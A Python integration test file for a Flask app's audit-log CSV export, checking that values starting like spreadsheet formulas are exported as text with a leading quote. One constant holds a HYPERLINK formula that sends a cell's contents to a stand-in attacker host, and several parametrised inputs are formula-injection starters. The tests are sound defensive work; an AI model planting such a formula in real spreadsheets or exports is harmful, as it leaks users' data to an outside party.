"""The audit log's CSV export opens in a spreadsheet as text: no cell starts a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from flask.testing import FlaskClient

from dokgen.bootstrap import Deps
from dokgen.services import brukere
from dokgen.storage.db import Organisasjon, Revisjon, now
from tests.dokgen.conftest import PASSORD
from tests.dokgen.web.sider_hjelp import logg_inn

pytestmark = pytest.mark.integration

LENKE = '=HYPERLINK("https://angriper.example/?d="&A1;"Klikk her")'


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=";"))


def test_a_user_name_that_is_a_formula_is_exported_as_text(
    client: FlaskClient, deps: Deps, org: Organisasjon
) -> None:
    """An admin named like a HYPERLINK formula: the cell is exported with a ' before it."""
    with deps.sessions.begin() as s:
        target = s.get(Organisasjon, org.id)
        assert target is not None
        brukere.opprett_bruker(s, target, "formel", LENKE, "admin", PASSORD)
    logg_inn(client, "formel")
    assert client.get("/admin/revisjonslogg").status_code == 200
    r = client.get("/admin/revisjonslogg.csv")
    assert r.status_code == 200
    cell = f"'{LENKE} (admin)"
    assert f';"{cell.replace(chr(34), chr(34) * 2)}";'.encode() in r.data
    assert {row[1] for row in _rows(r.data)[1:]} == {cell}


@pytest.mark.parametrize(
    "value", ["=1+1", "-2-3", "+47 22 00 00 00", "@SUM(A1:A9)", "\tx", "\rx", " =1", "＝1"]
)
def test_every_formula_start_is_neutralised_in_the_exported_bytes(
    client: FlaskClient,
    deps: Deps,
    org: Organisasjon,
    auth: Callable[..., dict[str, str]],
    value: str,
) -> None:
    """OWASP's list (=, +, -, @, tab, CR) and a full-width '＝': a ' first, nothing else changed."""
    with deps.sessions.begin() as s:
        s.add(
            Revisjon(
                tidspunkt=now(),
                org_id=org.id,
                aktor=value,
                handling="les",
                objekt_type="dokument",
                objekt_id=value,
                fra=value,
                foresporsel="r1",
            )
        )
    r = client.get("/api/v1/revisjonslogg?format=csv", headers=auth("admin"))
    assert r.status_code == 200
    [row] = [row for row in _rows(r.data)[1:] if row[6] == "r1"]
    assert row[1:] == [f"'{value}", "les", "dokument", f"'{value}", f"'{value}", "r1", ""]
    assert f"'{value}".encode() in r.data


def test_ordinary_cells_are_unchanged(
    client: FlaskClient, auth: Callable[..., dict[str, str]]
) -> None:
    """Names, actions, addresses and times keep their form (no stray ')."""
    admin = auth("admin")
    client.get("/api/v1/revisjonslogg", headers=admin)
    rows = _rows(client.get("/api/v1/revisjonslogg?format=csv", headers=admin).data)
    assert rows[1][1:6] == ["token:test-admin (admin)", "les", "revisjonslogg", "", "127.0.0.1"]
    assert not any(cell.startswith("'") for row in rows for cell in row)
